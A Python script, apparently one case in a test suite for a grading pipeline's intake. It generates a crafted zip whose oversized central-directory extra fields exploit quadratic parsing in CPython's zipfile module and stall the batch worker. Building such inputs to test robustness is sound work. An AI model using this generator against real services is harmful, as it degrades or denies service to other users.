"""Row 14: a zip whose central directory entries each carry a 65,532-byte extra field of zero-length records.

usage: python extra_quadratic_zip.py OUT.zip GELU_PY [N]   (N entries, default 1,000: a 64 MB zip)
zipfile.ZipInfo._decodeExtra (CPython 3.11) walks an extra field record by record with `extra = extra[ln+4:]`, a
copy of the rest each time: 16,383 records of 4 bytes cost ~50 ms an entry, in the batch worker, before intake has
looked at a single name. The zip is otherwise fine (its student/gelu.py is the learner's real answer; the other
entries are outside student/ and never extracted), so it is graded, after the wait.
"""
import struct, sys, zlib

out, gelu, n = sys.argv[1], open(sys.argv[2], "rb").read(), int(sys.argv[3]) if len(sys.argv) > 3 else 1000
extra = b"\x99\x99\x00\x00" * (65532 // 4)  # zero-length records of a type no reader knows
name0 = b"student/gelu.py"
crc = zlib.crc32(gelu)
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(gelu), len(gelu), len(name0), 0) + name0 + gelu
cd = bytearray()
for i in range(n):
    name = name0 if i == 0 else b"notes/%07d" % i
    size = len(gelu) if i == 0 else 0
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, crc if i == 0 else 0, size, size,
                      len(name), len(extra), 0, 0, 0, 0o644 << 16, 0) + name + extra
eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), len(local), 0)
with open(out, "wb") as f:
    f.write(local + bytes(cd) + eocd)
